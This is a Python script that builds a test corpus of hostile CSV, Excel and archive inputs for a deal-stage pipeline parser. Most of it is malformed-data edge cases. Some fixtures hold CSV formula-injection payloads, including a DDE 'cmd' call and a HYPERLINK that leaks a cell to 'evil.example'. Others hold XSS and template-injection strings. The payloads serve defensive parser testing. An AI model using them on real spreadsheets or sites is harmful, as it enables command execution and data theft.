"""Write the hostile-input corpus (tests/data/hostile/*) deterministically.

The files are committed; this script is how they were made, so the binary ones
(gzip, zip, xlsx, UTF-16) and the very long cell can be reproduced byte for byte:

    python tests/data/hostile/make_corpus.py

What each file must do is written in ``EXPECTED.toml`` beside them.
"""

from __future__ import annotations

import gzip
import io
import unicodedata
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
HEADER = "deal_id,stage,timestamp,amount\n"
BASIC = (
    "A1,Lead,2024-01-02T09:00:00Z,1000\n"
    "A1,Demo,2024-01-05T10:00:00Z,1000\n"
    "A1,Won,2024-01-20T16:30:00Z,1200\n"
    "B2,Lead,2024-01-03T11:00:00Z,500\n"
    "B2,Lost,2024-01-09T08:15:00Z,500\n"
)
FIXED_ZIP_TIME = (2024, 1, 1, 0, 0, 0)


def text_files() -> dict[str, str]:
    """File name -> text (written as UTF-8 unless the name says otherwise)."""
    big = "x" * 99_990 + "<end>" + "y" * 5  # 100 000 characters
    nfc = "Négociation"
    nfd = unicodedata.normalize("NFD", nfc)
    return {
        "header_only.csv": HEADER,
        "header_blank.csv": ",,,\nA1,Lead,2024-01-02,1\n",
        "semicolon_decimal_comma.csv": (
            "deal_id;stage;timestamp;amount\n"
            "A1;Lead;2024-01-02 09:00;1.234,50\n"
            "C3;Lead;2024-01-04 12:00;2.500\n"
            "A1;Demo;2024-01-05 10:00;1.234,50\n"
            "B2;Lead;2024-01-03 11:00;99,90\n"
            "B2;Lost;2024-01-09 08:15;99,90\n"
        ),
        "tab_delimited.tsv": (HEADER + BASIC).replace(",", "\t"),
        "excel_sep_line.csv": "sep=;\n" + (HEADER + BASIC).replace(",", ";"),
        "quoted_newlines_crlf.csv": (
            "deal_id,stage,timestamp,amount,notes\r\n"
            'A1,Lead,2024-01-02T09:00:00Z,1000,"first line\r\nsecond line, with a comma"\r\n'
            'A1,Demo,2024-01-05T10:00:00Z,1000,"she said ""no""\nthen yes"\r\n'
            "A1,Won,2024-01-20T16:30:00Z,1200,\r\n"
            'B2,Lead,2024-01-03T11:00:00Z,500,"\r\n\r\n"\r\n'
            "B2,Demo,2024-01-04T11:00:00Z,500,bad date next\r\n"
            "B2,Lost,not a date,500,\r\n"
        ),
        "blank_lines.csv": (
            HEADER + "\nA1,Lead,2024-01-02T09:00:00Z,1000\nA1,Demo,2024-01-05T10:00:00Z,1000\n"
            "A1,Won,2024-01-20T16:30:00Z,1200\n\nB2,Lead,2024-01-03T11:00:00Z,500\n"
            "B2,Lost,soon,500\n\n\n"
        ),
        "duplicate_headers.csv": (
            "deal_id,stage,timestamp,amount,owner,owner,owner.1\n"
            "A1,Lead,2024-01-02,1000,Ann,Bob,Cy\n"
            "A1,Won,2024-01-20,1000,Ann,Bob,Cy\n"
        ),
        "huge_cell.csv": (
            "deal_id,stage,timestamp,amount,description\n"
            f'A1,Lead,2024-01-02,1000,"{big}"\n'
            "A1,Won,2024-01-20,1000,short\n"
            f"B2,Lead,2024-01-03,500,{big}\n"
        ),
        "unicode_stages.csv": (
            "deal_id,stage,timestamp,amount\n"
            "🦄-1,🚀 Prospect,2024-01-02,1000\n"
            f"🦄-1,{nfc},2024-01-05,1000\n"
            "🦄-1,合同 審査,2024-01-07,1000\n"
            "🦄-1,Gagné ✅,2024-01-20,1000\n"
            "Ω-2,🚀 Prospect,2024-01-03,500\n"
            f"Ω-2,{nfd},2024-01-04,500\n"
            "Ω-2,Perdu ❌,2024-01-09,500\n"
        ),
        "stage_case_spaces.csv": (
            HEADER + "A1,Lead,2024-01-02,1\nA1,Demo,2024-01-05,1\nA1,Won,2024-01-09,1\n"
            "B2,Lead ,2024-01-03,1\nB2,demo,2024-01-06,1\nC3, Lead,2024-01-04,1\n"
            "C3,DEMO  ,2024-01-07,1\nC3,Lost,2024-01-08,1\n"
        ),
        "ambiguous_dates.csv": (
            HEADER + "A1,Lead,03/04/2024,1\nA1,Demo,05/06/2024,1\nA1,Won,07/08/2024,1\n"
        ),
        "slash_dates_day_first.csv": (
            HEADER + "A1,Lead,03/04/2024,1\nA1,Demo,25/04/2024,1\nA1,Won,07/08/2024,1\n"
        ),
        "us_dates_am_pm.csv": (
            HEADER + "A1,Lead,3/14/2024 9:05 AM,1\nA1,Demo,3/15/2024 12:30 PM,1\n"
            "A1,Won,3/18/2024 4:45 PM,1\nB2,Lead,3/19/2024 12:10 AM,1\n"
        ),
        "excel_serial.csv": (
            HEADER + "A1,Lead,45293.375,1\nA1,Demo,45296.5,1\nA1,Won,45311,1\n"
            "B2,Lead,45294.25,1\nB2,Lost,45300.75,1\n"
        ),
        "epoch_ms.csv": (
            HEADER + "A1,Lead,1704186000000,1\nA1,Demo,1704448800000,1\n"
            "A1,Won,1705768200000,1\nB2,Lead,1704279600000,1\nB2,Lost,1704788100000,1\n"
        ),
        "epoch_mixed_with_iso.csv": (
            HEADER + "A1,Lead,1704186000000,1\nA1,Demo,2024-01-05T10:00:00Z,1\n"
            "A1,Won,2024-01-20T16:30:00Z,1\n"
        ),
        "mixed_offsets.csv": (
            HEADER + "A1,Lead,2024-01-02T09:00:00+01:00,1\n"
            "A1,Demo,2024-01-02T03:30:00-05:00,1\n"
            "A1,Proposal,2024-01-02T15:00:00+0530,1\n"
            "A1,Won,2024-01-03T00:00:00Z,1\n"
            "B2,Lead,2024-01-02 10:00:00,1\n"
            "B2,Lost,2024-01-04T10:00:00.123456+02:00,1\n"
        ),
        "dst_local_times.csv": (
            HEADER + "A1,Lead,2024-10-26 12:00,1\nA1,Demo,2024-10-27 02:30,1\n"
            "A1,Won,2024-10-28 09:00,1\nB2,Lead,2024-03-30 12:00,1\n"
            "B2,Demo,2024-03-31 02:30,1\nB2,Lost,2024-04-02 09:00,1\n"
        ),
        "far_future.csv": HEADER + BASIC + "B2,Demo,2099-12-31T00:00:00Z,500\n",
        "pre_1990.csv": (
            HEADER + BASIC + "C3,Lead,1970-01-01T00:00:00Z,1\nC3,Demo,1899-12-30,1\n"
            "C3,Proposal,2024-01-10,1\n"
        ),
        "amounts.csv": (
            "deal_id,stage,timestamp,amount\n"
            'A1,Lead,2024-01-02,"$1,234.50"\n'
            'A2,Lead,2024-01-02,"1.234,50 €"\n'
            "A3,Lead,2024-01-02,(500)\n"
            "A4,Lead,2024-01-02,1e309\n"
            "A5,Lead,2024-01-02,NaN\n"
            "A6,Lead,2024-01-02,-250\n"
            "A7,Lead,2024-01-02,USD 2 500\n"
            "A8,Lead,2024-01-02,\n"
            "A9,Lead,2024-01-02,12 days\n"
            "A10,Lead,2024-01-02,1e3\n"
            "A11,Lead,2024-01-02,-inf\n"
        ),
        "leading_zeros.csv": (
            HEADER + "00123,Lead,2024-01-02,1\n0123,Lead,2024-01-03,1\n123,Lead,2024-01-04,1\n"
            "00123,Won,2024-01-05,1\n1E3,Lead,2024-01-06,1\n"
        ),
        "same_timestamp.csv": HEADER
        + "".join(
            f"D{i},{s},2024-03-01T12:00:00Z,100\n"
            for i in range(1, 6)
            for s in ("Lead", "Demo", "Won" if i % 2 else "Lost")
        ),
        "won_open_lost.csv": (
            HEADER + "A1,Lead,2024-01-02,1\nA1,Demo,2024-01-05,1\nA1,Won,2024-01-10,1\n"
            "A1,Demo,2024-01-15,1\nA1,Lost,2024-01-25,1\nB2,Lead,2024-01-03,1\n"
        ),
        "formula_cells.csv": (
            "deal_id,stage,timestamp,amount,account,=cmd|' /C calc'!A0\n"
            '"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",Lead,2024-01-02,100,'
            "+cmd|' /C calc'!A0,x\n"
            "@SUM(1+1),Lead,2024-01-03,=1+1,-2+3,y\n"
            '"\t=1+1",Lead,2024-01-04,@SUM(A1),"\r=2",z\n'
            "-1,Lead,2024-01-05,-1,=A1,w\n"
        ),
        "html_names.csv": (
            HEADER.replace("amount", "account")
            + "<script>alert(1)</script>,<b>Lead</b>,2024-01-02,<img src=x onerror=alert(1)>\n"
            "<script>alert(1)</script>,Closed Won <script>,2024-01-05,Q&A \"Ltd\" 'x'\n"
            "</td></tr><tr>,<b>Lead</b>,2024-01-03,{{ 7*7 }}\n"
            "</td></tr><tr>,Closed Lost &amp;,2024-01-06,${7*7}\n"
        ),
        "truncated_last_line.csv": HEADER + BASIC + "C3,Dem",
        "truncated_in_quote.csv": HEADER + BASIC + 'C3,Demo,2024-01-06,"12',
        "unclosed_quote.csv": (
            HEADER + 'A1,Lead,2024-01-02,1\nA1,Demo,2024-01-05,"5\nA1,Won,2024-01-09,1\n'
            "B2,Lead,2024-01-03,1\nB2,Lost,2024-01-04,1\n"
        ),
        "invisible_characters.csv": (
            HEADER + "A1,Lead,2024-01-02,1\nA1\u200b,Demo,2024-01-05,1\nA1,Won\ufeff,2024-01-09,1\n"
            "\u202eB2,Lead,2024-01-03,1\nB2,Lost,2024-01-04,1\n"
            "C3,👩\u200d💻 Lead,2024-01-05,1\n"
        ),
        "ragged_rows.csv": (
            HEADER + "A1,Lead,2024-01-02,1\nA1,Demo,2024-01-05,1,extra\nA1,Won,2024-01-09,1\n"
            "B2\nB2,Lead,2024-01-03,1\n"
        ),
        "missing_values.csv": (
            HEADER + "A1,Lead,2024-01-02,1\n,Demo,2024-01-03,1\nA1,,2024-01-04,1\n"
            "A1,   ,2024-01-05,1\nA1,Demo,,1\nA1,Demo,yesterday,1\nA1,Demo,2024-02-30,1\n"
            " A1 ,Won,2024-01-09,1\n"
        ),
        "duplicate_rows.csv": HEADER
        + BASIC
        + "A1,Demo,2024-01-05T10:00:00Z,1000\n"
        + ("A1,Demo,2024-01-05T10:00:00Z,999\n"),
        "salesforce_history.csv": (
            "Id,OpportunityId,CreatedDate,StageName,Amount,IsDeleted\n"
            'h1,0065e000001,2024-01-02T09:00:00.000+0000,Prospecting,"1,000.00",false\n'
            "h2,0065e000001,2024-01-05T10:00:00.000+0000,Qualification,1000,false\n"
            "h3,0065e000001,2024-01-20T16:30:00.000+0000,Closed Won,1200,false\n"
            "h4,0065e000002,2024-01-03T11:00:00.000+0000,Prospecting,500,true\n"
            "h5,0065e000002,2024-01-09T08:15:00.000+0000,Closed Lost,500,false\n"
        ),
    }


def write() -> list[str]:
    written = []

    def put(name: str, data: bytes) -> None:
        (HERE / name).write_bytes(data)
        written.append(name)

    put("empty.csv", b"")
    put("whitespace_only.csv", b"  \r\n\n\t\n")
    for name, text in text_files().items():
        put(name, text.encode("utf-8"))
    basic = (HEADER + BASIC).encode()
    put("utf8_bom.csv", b"\xef\xbb\xbf" + basic)
    put(
        "windows1252.csv",
        (
            "deal_id,stage,timestamp,amount,account\n"
            "A1,Lead,2024-01-02,1000,Société Générale – 5 €\n"
            "A1,Won,2024-01-20,1000,Société Générale – 5 €\n"
            "B2,Lead,2024-01-03,500,Müller & Söhne\n"
        ).encode("cp1252"),
    )
    put(
        "utf16_excel_unicode_text.txt",
        ("\ufeff" + (HEADER + BASIC).replace(",", "\t")).encode("utf-16-le"),
    )
    put("utf16_no_bom.csv", (HEADER + BASIC).encode("utf-16-le"))
    put("nul_bytes.csv", (HEADER + BASIC).replace("B2,Lead", "B\x002,Lead").encode())
    put("not_a_table.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    put("export.csv.gz", gzip.compress(basic, mtime=0))
    put("corrupt.csv.gz", gzip.compress(basic, mtime=0)[:40])
    put("export.zip", _zip({"export.csv": basic}))
    put("two_files.zip", _zip({"a.csv": basic, "b.csv": basic}))
    put("export.csv.zst", b"(\xb5/\xfd" + b"\x00" * 32)
    put("export.csv.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 32)
    put("formulas_and_text_ids.xlsx", _xlsx())
    return written


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, FIXED_ZIP_TIME), data)
    return buf.getvalue()


def _xlsx() -> bytes:
    """Ids stored as text with leading zeros, a real formula cell, dates as date cells."""
    import datetime as dt

    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Deals"
    ws.append(["deal_id", "stage", "timestamp", "amount", "account"])
    rows = [
        ("00123", "Lead", dt.datetime(2024, 1, 2, 9, 0), 1000, '=HYPERLINK("http://evil","x")'),
        ("00123", "Won", dt.datetime(2024, 1, 20, 16, 30), 1200, "=1+1"),
        ("0456", "Lead", dt.datetime(2024, 1, 3, 11, 0), 500, "@SUM(A1)"),
        ("0456", "Lost", dt.datetime(2024, 1, 9, 8, 15), 500, "plain"),
    ]
    for r in rows:
        ws.append(list(r))
    for row in ws.iter_rows(min_row=2, max_col=1):
        row[0].data_type = "s"
    wb.properties.created = dt.datetime(2024, 1, 1)
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(buf) as zf:  # again, with fixed times: the same bytes on every run
        members = {info.filename: zf.read(info) for info in zf.infolist()}
    core = members["docProps/core.xml"].decode()
    start = core.index("<dcterms:modified")
    end = core.index("</dcterms:modified>")
    members["docProps/core.xml"] = (
        core[:start]
        + '<dcterms:modified xsi:type="dcterms:W3CDTF">2024-01-01T00:00:00Z'
        + core[end:]
    ).encode()
    return _zip(members)


if __name__ == "__main__":
    names = write()
    print(f"wrote {len(names)} files to {HERE}")
